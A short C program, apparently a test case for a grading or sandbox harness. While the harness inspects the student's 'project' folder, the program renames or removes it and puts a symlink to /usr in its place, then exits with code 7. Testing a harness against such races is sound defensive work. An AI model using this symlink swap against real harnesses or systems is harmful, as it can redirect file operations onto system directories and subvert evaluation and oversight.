// Swaps its own folder for a link while the harness looks at it.
#include "attack.h"
#include <sys/stat.h>
int main(void) {
  chdir("/home/student");
  if (rename("project", "elsewhere") == 0 || rmdir("project") == 0) {
    symlink("/usr", "project");
  }
  return 7;
}
